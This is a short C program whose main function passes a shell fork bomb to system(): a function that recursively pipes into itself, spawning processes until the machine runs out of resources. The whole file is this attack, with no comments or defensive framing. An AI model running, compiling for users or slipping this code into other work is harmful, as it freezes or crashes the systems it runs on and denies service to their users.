#include <stdlib.h>
int main(void)
{
    return system("bomb() { bomb | bomb; }; bomb") != 0;
}
